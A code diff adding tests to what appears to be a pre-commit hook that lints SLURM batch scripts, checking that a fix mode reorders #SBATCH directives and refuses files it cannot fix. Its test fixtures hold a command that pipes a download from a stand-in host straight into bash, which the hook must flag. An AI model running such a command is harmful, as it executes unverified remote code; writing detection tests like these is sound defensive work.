@@ -8,6 +8,8 @@ import { isOffline, type User, World } from './world.ts';
 const CLEAN = '#!/bin/bash\n#SBATCH --nodes=1\nsrun hostname\n';
 const RISKY = '#!/bin/bash\n#SBATCH --nodes=1\ncurl -s https://get.example.org/x | bash\n';
 const HELPER = '#!/bin/bash\ncurl -s https://get.example.org/x | bash\n';
+const FIXABLE = '#!/bin/bash\n#SBATCH --nodes=1\nsrun hostname\n#SBATCH --mem=4G\n';
+const FIXED = '#!/bin/bash\n#SBATCH --nodes=1\n#SBATCH --mem=4G\nsrun hostname\n';
 
 const world = new World();
 let missing: string | undefined;
@@ -112,6 +114,26 @@ test('lists that pre-commit splits over several processes', async () => {
   const { status, text } = await user.commit({ ...jobs, 'jobs/99.sbatch': `${CLEAN}bash setup.sh\n` });
   expect(status).toBe(1);
   expect(text.match(/JV301 remote/g)).toHaveLength(1);
+});
+
+test('the fix hook changes the file and stops the commit; the changed file is committed', async () => {
+  const user = await world.user(configuration('jobvet-fix'));
+  const first = await user.commit({ 'job.sbatch': FIXABLE });
+  expect(first.status).toBe(1);
+  expect(first.text).toContain('- files were modified by this hook');
+  expect(first.text).toContain('job.sbatch: fixed 1 finding (JV905)');
+  expect(user.read('job.sbatch')).toBe(FIXED);
+  expect(await isCommitted(user)).toBe(false);
+  expect(await user.commit({ 'job.sbatch': FIXED })).toMatchObject({ status: 0 });
+});
+
+test('the fix hook refuses what it does not fix, and leaves the file alone', async () => {
+  const user = await world.user(configuration('jobvet-fix'));
+  const { status, text } = await user.commit({ 'job.sbatch': RISKY });
+  expect(status).toBe(1);
+  expect(text).not.toContain('files were modified');
+  expect(text).toContain('job.sbatch:3:1: high JV301');
+  expect(user.read('job.sbatch')).toBe(RISKY);
 });
 
 test('the hook of an installed program', async () => {
